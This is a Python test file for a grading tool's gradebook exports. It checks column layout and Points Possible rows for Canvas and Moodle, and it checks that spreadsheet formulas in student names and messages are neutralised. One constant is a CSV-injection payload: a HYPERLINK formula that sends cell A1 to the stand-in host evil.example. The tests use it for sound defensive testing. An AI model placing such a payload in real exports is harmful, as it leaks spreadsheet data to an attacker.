"""One gradebook module for check-all and batch: same columns, ids, Points Possible rows; no
spreadsheet formula survives in a cell."""

from __future__ import annotations

import csv
import io

import pytest
from convgrade.exercises.gradebook import FORMATS, Entry, Gradebook, neutralise, render
from convgrade.grader.batch import gradebook_of

EVIL = '=HYPERLINK("http://evil.example/?"&A1, "click me")'


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_prefixes_are_neutralised(prefix):
    assert neutralise(prefix + "1+1") == "'" + prefix + "1+1"
    assert neutralise("a" + prefix) == "a" + prefix and neutralise(3.5) == 3.5


def test_a_student_message_never_lands_as_a_formula_in_any_format():
    book = gradebook_of([{"student": "s1", "status": "error", "score": 0, "message": EVIL}])
    for name in FORMATS:
        for row in rows(render(book, name)):
            assert not any(c.startswith(("=", "+", "@")) for c in row), (name, row)
    feedback = rows(render(book, "moodle"))[1][4]
    assert feedback == "error: " + EVIL  # shown as text (the status prefix defuses it here)
    book = Gradebook("T", 1, [Entry(EVIL, name=EVIL, message=EVIL)])
    for name in FORMATS:
        assert all(EVIL not in c or c.startswith("'") for r in rows(render(book, name)) for c in r)


def test_check_all_and_batch_write_the_same_columns_and_points_possible_row():
    from convgrade.exercises.answer_sheets import Key, Question
    from convgrade.exercises.checking import StudentResult
    from convgrade.exercises.class_check import ClassResult, gradebook

    key = Key("k", "Week 3", "w3", [Question("q1", "conv1d", points=10)], {}, {})
    c = ClassResult(key, [StudentResult("alice", "", "w3", "Week 3", [])], {})
    from_check = gradebook(c)
    from_batch = gradebook_of(
        [{"student": "alice", "status": "ok", "score": 0.0, "max_score": 10}],
        title="Week 3 (w3)",
    )
    for name in ("canvas", "moodle"):
        a, b = rows(render(from_check, name)), rows(render(from_batch, name))
        assert a[0] == b[0] and [r[:3] for r in a[1:]] == [r[:3] for r in b[1:]], name
    canvas = rows(render(from_batch, "canvas"))
    assert canvas[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Week 3 (w3)"]
    assert canvas[1] == ["    Points Possible", "", "", "", "", "10"]
    assert canvas[2] == ["alice", "", "alice", "", "", "0"]


def test_an_lms_gradebook_has_one_line_per_student():
    book = Gradebook("T", 4, [Entry("s1", points=4), Entry("s1", status="duplicate")])
    assert [r[2] for r in rows(render(book, "canvas"))[2:]] == ["s1"]
    assert [r[2] for r in rows(render(book, "csv"))[1:]] == ["ok", "duplicate"]
